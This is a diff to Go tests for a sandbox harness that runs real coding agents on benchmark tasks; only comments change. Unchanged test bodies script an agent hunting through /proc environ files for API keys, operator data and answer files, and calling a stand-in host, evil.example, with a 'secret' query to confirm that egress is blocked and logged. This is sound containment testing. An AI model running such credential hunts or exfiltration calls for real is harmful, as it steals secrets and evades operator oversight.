@@ -52,7 +52,7 @@ type agentRun struct {
 	record   agentRecord
 }
 
-// runAgent lets a real, unmodified agent work.
+// runAgent runs a real, unmodified agent.
 func runAgent(t *testing.T, agent, pack, task, script, config string, code int) agentRun {
 	t.Helper()
 	dir, err := filepath.Abs("../../benchmarks/" + pack)
@@ -100,7 +100,7 @@ harness:
 	return r
 }
 
-// testbed is the image of repo-patch-smoke, which scripts/testbed-image.sh puts
+// testbed returns the image of repo-patch-smoke, which scripts/testbed-image.sh puts
 // beside the base image.
 func testbed(t *testing.T) string {
 	t.Helper()
@@ -146,7 +146,7 @@ func (r agentRun) trace(t *testing.T) string {
 
 func agents() []string { return []string{"codex", "claude_code"} }
 
-// TestAgentsSolve lets both agents solve a task of each kind of sandbox.
+// TestAgentsSolve: both agents solve a task of each kind of sandbox.
 func TestAgentsSolve(t *testing.T) {
 	tasks := []struct{ pack, task, script, trace, said string }{
 		{"terminal-task-smoke", "terminal-task-smoke/create-file", "shell echo 'hello, sandbox' > greeting.txt\nsay The file is there.", "greeting.txt", "The file is there."},
@@ -176,8 +176,8 @@ func TestAgentsSolve(t *testing.T) {
 
 const greet = "shell echo 'hello, sandbox' > greeting.txt\nsay The file is there."
 
-// TestAgentsProvider: what a provider's failures make of an attempt. Where an
-// agent gives up that might have gone on, the attempt is no verdict.
+// TestAgentsProvider: the outcomes of attempts whose provider fails. If an agent gives up
+// that could have gone on, the attempt gets no verdict.
 func TestAgentsProvider(t *testing.T) {
 	const passed, failed, none = "passed ", "failed ", "error infrastructure"
 	tests := []struct{ name, script, config, codex, claude string }{
@@ -211,8 +211,8 @@ func TestAgentsProvider(t *testing.T) {
 	}
 }
 
-// TestAgentsFindNoKey: a model that looks for the key everywhere that a sandbox
-// has, and for what is not its own. All that it sees goes to the provider.
+// TestAgentsFindNoKey: a model looks for the key everywhere in a sandbox, and for what it
+// must not have. Everything it sees goes to the provider.
 func TestAgentsFindNoKey(t *testing.T) {
 	hunt := `shell <<END
 cat /proc/*/environ /proc/*/cmdline /proc/*/mountinfo 2>/dev/null | tr '\0' '\n' | grep -E 'sk-rea[l]|opera[t]or|/hidden|candidates.jso[n]l' ; echo environ done
@@ -279,8 +279,8 @@ func (r agentRun) egress(t *testing.T) []egressLine {
 	return all
 }
 
-// TestAgentsReachNothingElse: a host that is not allowed is refused and logged,
-// a hosted tool is taken out and logged, and the run goes on.
+// TestAgentsReachNothingElse: a host that is not allowed is refused and logged, a hosted
+// tool is removed from the request and logged, and the run goes on.
 func TestAgentsReachNothingElse(t *testing.T) {
 	script := `shell python3 -c "import urllib.request as u; u.urlopen('https://evil.example/?q=secret')" 2>&1 | tail -1; echo 'hello, sandbox' > greeting.txt
 say The file is there.`
@@ -302,15 +302,15 @@ say The file is there.`
 			if !denied || relayed < 2 {
 				t.Errorf("denied %v, relayed %d: %+v", denied, relayed, r.egress(t))
 			}
-			if agent == "codex" && (!stripped || len(r.record.Egress.Relay.Stripped) == 0) { // it asks for web_search by itself
+			if agent == "codex" && (!stripped || len(r.record.Egress.Relay.Stripped) == 0) { // codex always asks for web_search
 				t.Errorf("no hosted tool was taken out: %+v", r.egress(t))
 			}
 		})
 	}
 }
 
-// TestAgentsRefusedTool: under the policy refuse, a request for a hosted tool is
-// none that a provider sees.
+// TestAgentsRefusedTool: under the policy refuse, a request for a hosted tool does not
+// reach the provider.
 func TestAgentsRefusedTool(t *testing.T) {
 	r := runAgent(t, "codex", "terminal-task-smoke", "terminal-task-smoke/create-file", greet, ", on_external_tools: refuse", 0)
 	if r.record.Status != "failed" || r.record.Egress.Relay.Sent != 0 || len(r.record.Egress.Relay.External) == 0 {
@@ -349,8 +349,8 @@ func TestAgentsTogether(t *testing.T) {
 	}
 }
 
-// TestAgentDoesNotRun: an image in which the program cannot run is no verdict, and
-// says so in the program's words.
+// TestAgentDoesNotRun: an image in which the program cannot run leads to no verdict, and
+// the message has the program's own words.
 func TestAgentDoesNotRun(t *testing.T) {
 	c := containerdtest.Open(t)
 	folder := t.TempDir()
@@ -366,7 +366,7 @@ func TestAgentDoesNotRun(t *testing.T) {
 	}
 }
 
-// TestAgentSpec prints what an agent's sandbox would be made of, without a key.
+// TestAgentSpec: the specification of an agent's sandbox can be printed without a key.
 func TestAgentSpec(t *testing.T) {
 	h := newHost(t)
 	for _, name := range []string{"codex", "claude"} {
